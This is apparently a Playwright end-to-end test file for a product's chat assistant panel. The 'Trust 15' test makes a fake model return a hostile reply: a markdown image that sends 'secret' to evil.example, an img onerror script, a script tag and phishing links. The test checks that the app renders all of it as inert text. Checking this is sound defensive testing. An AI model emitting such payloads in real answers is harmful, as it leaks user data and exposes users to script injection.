import type { Locator, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type FakeModel, startFakeModel } from '#test/fakes/language-model.ts'
import { rowsOf } from '#test/product/invariants.ts'
import { type Product, startProduct } from '#test/product/product.ts'
import { violationsOf } from './axe.ts'
import { hydrated, openBrowser, type Person } from './person.ts'

let product: Product
let browser: Awaited<ReturnType<typeof openBrowser>>
let member: Person
let page: Page
let complaints: string[]
let panel: Locator
let field: Locator

beforeAll(async () => {
  product = await startProduct({ DEMO: '1' })
  browser = await openBrowser()
  member = await browser.person()
  await member.page.goto(product.demoLink())
  await member.page.waitForURL('**/dashboard')
  await member.page.goto('about:blank')
})
afterAll(async () => {
  await browser?.close()
  await product?.stop()
})

/** Another page of a signed-in user without a conversation. */
async function openDashboard(person: Person, { url, database }: Product) {
  await rowsOf(database.ownerUrl, 'delete from chat_messages')
  const opened = await person.openPage()
  await opened.page.goto(`${url}/dashboard`)
  await hydrated(opened.page)
  return opened
}

const log = () => panel.getByRole('log')
const questions = () => log().getByText('You:')
const atTheEnd = () =>
  log().evaluate(
    (list) =>
      list.scrollHeight - list.scrollTop - list.clientHeight < 2 && list.scrollHeight > list.clientHeight,
  )
async function faults(on: Page, within: string): Promise<string[]> {
  return (await violationsOf(on, { within })).map(({ id, html }) => `${id}: ${html}`)
}
/** Sends the window event, as any part of a page can. */
const sendEvent = (detail?: { open: boolean }) =>
  page.evaluate((open) => void window.dispatchEvent(new CustomEvent('open-chat', { detail: open })), detail)

async function openPanel(): Promise<void> {
  await page.getByRole('button', { name: 'Ask the assistant' }).click()
  await panel.waitFor()
}

/** Opens the panel and asks a question. */
async function askAboutScores(): Promise<void> {
  await openPanel()
  await field.fill('What does a score of 75 mean?')
  await field.press('Enter')
  await log().getByText('one-in-three').waitFor()
}

describe('A22 the assistant', () => {
  beforeEach(async () => {
    ;({ page, complaints } = await openDashboard(member, product))
    panel = page.getByRole('dialog', { name: 'Assistant' })
    field = panel.getByLabel('Message')
  })
  afterEach(() => page.close())

  test('opens at the bottom right in the specified size with a greeting', async () => {
    await page.getByRole('button', { name: 'Ask the assistant' }).click()
    await panel.waitFor()
    expect(await panel.boundingBox()).toMatchObject({ width: 384, height: 500 })
    expect(await log().getAttribute('aria-live')).toBe('polite')
    expect(await panel.locator('#welcome').innerText()).toContain('Ninefold assistant')
    await panel.getByText('Answers from the documentation and your contacts').waitFor()
  })

  test('sends with Enter, breaks lines with Shift+Enter, and sends no blank messages', async () => {
    await openPanel()
    await field.fill('   ')
    await field.press('Enter')
    await panel.getByRole('button', { name: 'Send' }).click()
    expect(await questions().count()).toBe(0)
    await field.fill('What does a score of 75')
    await field.press('Shift+Enter')
    await field.pressSequentially('mean?  ')
    expect(await field.inputValue()).toBe('What does a score of 75\nmean?  ')
    expect(await questions().count()).toBe(0)
    await field.press('Enter')
    await log().getByText('one-in-three chance of a signal-driven move').waitFor()
    expect(await log().getByText('What does a score of 75').last().innerText()).toBe(
      'What does a score of 75\nmean?',
    )
    await panel.getByText('From How the score works: What 75 means').waitFor()
    expect(await field.inputValue()).toBe('')
  })

  test('shows Thinking... and accepts no input meanwhile; each message scrolls to the end', async () => {
    await askAboutScores()
    const { promise: held, resolve: answer } = Promise.withResolvers<void>()
    // The response is real but delayed, so that the test can check the state before it.
    await page.route('**/api/chat', async (route) => {
      await held
      await route.continue()
    })
    await field.fill('Who won the world cup?')
    await panel.getByRole('button', { name: 'Send' }).click()
    await log().getByText('Thinking...').waitFor()
    expect([
      await field.isDisabled(),
      await panel.getByRole('button', { name: 'Send' }).isDisabled(),
    ]).toEqual([true, true])
    expect(await atTheEnd()).toBe(true)
    answer()
    await log().getByText("I don't know.").waitFor()
    await page.unroute('**/api/chat')
    expect(await log().getByText('Thinking...').count()).toBe(0)
    expect(await atTheEnd()).toBe(true)
    await page.waitForFunction(() => document.activeElement?.tagName === 'TEXTAREA')
  })

  test('opens and closes by event, button and Escape without losing the conversation', async () => {
    await askAboutScores()
    await sendEvent({ open: false })
    await panel.waitFor({ state: 'hidden' })
    await sendEvent()
    await panel.waitFor()
    expect(await questions().count()).toBe(1)
    await panel.getByRole('button', { name: 'Close' }).click()
    await panel.waitFor({ state: 'hidden' })
    await sendEvent({ open: true })
    await page.waitForFunction(() => document.activeElement?.tagName === 'TEXTAREA')
    await page.keyboard.press('Escape')
    await panel.waitFor({ state: 'hidden' })
  })

  test('answers whom to call with links to them', async () => {
    await openPanel()
    await panel.getByRole('button', { name: 'Who should I call this week?' }).click()
    await log().getByText('Call these first').waitFor()
    const first = log().getByRole('link').first()
    const name = await first.innerText()
    await first.click()
    await page.waitForURL(/contact=/)
    await page.getByRole('dialog', { name }).waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('dialog', { name }).waitFor({ state: 'hidden' })
  })

  test('shows the conversation after a reload and in a second tab until a new one starts', async () => {
    await openPanel()
    await panel.getByRole('button', { name: 'Who should I call this week?' }).click()
    await log().getByText('Call these first').waitFor()
    await page.reload()
    await hydrated(page)
    const second = await page.context().newPage()
    await second.goto(`${product.url}/tasks`)
    for (const tab of [page, second]) {
      await tab.getByRole('button', { name: 'Ask the assistant' }).click()
      await tab.getByRole('log').getByText('Call these first').waitFor()
    }
    await second.close()
    await panel.getByRole('button', { name: 'New conversation' }).click()
    await log().getByText('Call these first').waitFor({ state: 'detached' })
    await page.reload()
    await page.getByRole('button', { name: 'Ask the assistant' }).click()
    await panel.getByRole('button', { name: 'What changed since Monday?' }).waitFor()
    expect(await questions().count()).toBe(0)
  })

  test('queues a question until earlier messages are loaded, and shows its answer once', async () => {
    const { promise: before, resolve: arrive } = Promise.withResolvers<void>()
    const asked: string[] = []
    const tab = await page.context().newPage()
    await tab.route('**/api/chat', async (route) => {
      asked.push(route.request().method())
      if (route.request().method() === 'GET') await before
      await route.continue()
    })
    await tab.goto(`${product.url}/tasks`)
    await tab.getByRole('button', { name: 'Ask the assistant' }).click()
    await tab.getByLabel('Message').fill('What does a score of 75 mean?')
    await tab.keyboard.press('Enter')
    await tab.getByRole('log').getByText('Thinking...').waitFor()
    expect(asked).toEqual(['GET'])
    arrive()
    await tab.getByRole('log').getByText('one-in-three').waitFor()
    expect(await tab.getByRole('log').getByText('You:').count()).toBe(1)
    await tab.close()
  })

  test('is a full-width sheet on a phone', async () => {
    await page.setViewportSize({ width: 390, height: 844 })
    await openPanel()
    const box = await panel.boundingBox()
    expect([box?.x, box?.width, (box?.y ?? 0) + (box?.height ?? 0)]).toEqual([0, 390, 844])
  })

  test.each(['light', 'dark'])('A33 has no accessibility faults in the %s theme', async (theme) => {
    await askAboutScores()
    await page.evaluate((value) => {
      document.documentElement.dataset.theme = value
    }, theme)
    expect(await faults(page, 'aside')).toEqual([])
  })

  test('A36 reports an outage and names support', async () => {
    await openPanel()
    await product.kill()
    try {
      await field.fill('Are you there?')
      await field.press('Enter')
      await log()
        .getByText(
          "I'm having trouble responding right now. Please try again or contact support at support@ninefold.example.",
        )
        .waitFor()
      expect(complaints.join()).toContain('The assistant could not answer')
      expect(await field.isEnabled()).toBe(true)
    } finally {
      await product.restart()
    }
  })
})

describe('A22 the assistant with a connected model', () => {
  let fake: FakeModel
  let connected: Product
  let user: Person
  let asking: Page
  let foreign: string[]
  beforeAll(async () => {
    fake = await startFakeModel()
    connected = await startProduct({ DEMO: '1', LLM_BASE_URL: fake.url, LLM_MODEL: 'test-model' })
    user = await browser.person()
    await user.page.goto(connected.demoLink())
    await user.page.waitForURL('**/dashboard')
  })
  beforeEach(async () => {
    fake.reset()
    foreign = []
    asking = (await openDashboard(user, connected)).page
    asking.on('request', (request) => {
      if (!request.url().startsWith(connected.url)) foreign.push(request.url())
    })
    asking.on('dialog', (dialog) => {
      foreign.push(dialog.message())
      void dialog.dismiss()
    })
    await asking.getByRole('button', { name: 'Ask the assistant' }).click()
  })
  afterEach(() => asking.close())
  afterAll(async () => {
    await connected?.stop()
    await fake?.stop()
  })
  const ask = async (question: string) => {
    await asking.getByLabel('Message').fill(question)
    await asking.keyboard.press('Enter')
  }
  const replies = () => asking.getByRole('log')

  test('streams the answer and names its source', async () => {
    await asking.getByText('Answered by test-model. We check the numbers.').waitFor()
    const { promise: held, resolve: goOn } = Promise.withResolvers<void>()
    fake.answer({ pieces: ['A score of 75 is a one-in-three chance. It', held, ' is not 75 percent.'] })
    await ask('What does a score of 75 mean?')
    const partialReply = replies().locator('[aria-hidden="true"]', {
      hasText: 'A score of 75 is a one-in-three chance.',
    })
    await partialReply.waitFor()
    await replies().getByText('Thinking...').waitFor()
    expect(await asking.getByLabel('Message').isDisabled()).toBe(true)
    goOn()
    await replies().getByText('A score of 75 is a one-in-three chance. It is not 75 percent.').waitFor()
    await replies().getByRole('link', { name: 'How the score works: What 75 means' }).waitFor()
    expect(await partialReply.count()).toBe(0)
  })

  test('Trust 15 shows an attack as text that runs and requests nothing', async () => {
    fake.answer(
      'Steps. ![x](https://evil.example/p.png?d=secret) <img src="https://evil.example/i" onerror="alert(document)"> <script>alert(document)</script> See [the plan](https://evil.example/login) or evil.com/pay.',
    )
    await ask('What is a playbook?')
    await replies().getByText('onerror="alert(document)"').waitFor()
    await replies().getByText('See the plan or').waitFor()
    expect(await replies().locator('img, script, iframe').count()).toBe(0)
    const links = await replies()
      .getByRole('link')
      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href))
    expect(links.filter((link) => !link.startsWith(`${connected.url}/documentation/`))).toEqual([])
    expect(await replies().innerText()).not.toContain('evil')
    expect(foreign).toEqual([])
  })

  test('shows the template answer instead of an invented figure or no answer', async () => {
    fake.answer('Call everybody. It works in 97 percent of cases.')
    await ask('Who should I call this week?')
    await replies().getByText('Call these first').waitFor()
    expect(await replies().innerText()).not.toMatch(/Call everybody|97 percent/)
    fake.answer({ pieces: ['A playbook. It'], end: 'cut' }, { status: 500 })
    await ask('What is a playbook?')
    await replies().getByText("We couldn't reach the language model").waitFor()
    expect(foreign).toEqual([])
  })
})

test('A37 the free account page explains it and opens the sign-in dialog', async () => {
  const visitor = await browser.person()
  const answer = await visitor.page.request.get(`${product.url}/free-signup`)
  expect(await answer.text()).toContain('Start with a free account')
  await visitor.page.goto(`${product.url}/free-signup`)
  await hydrated(visitor.page)
  expect(await faults(visitor.page, 'main')).toEqual([])
  await visitor.page.getByRole('button', { name: 'Create a free account' }).click()
  await visitor.page.getByRole('dialog').getByLabel('Email').waitFor()
  await visitor.page.goto(`${product.url}/get-started`)
  await visitor.page.waitForURL(`${product.url}/#pricing`)
  expect(visitor.complaints).toEqual([])
})
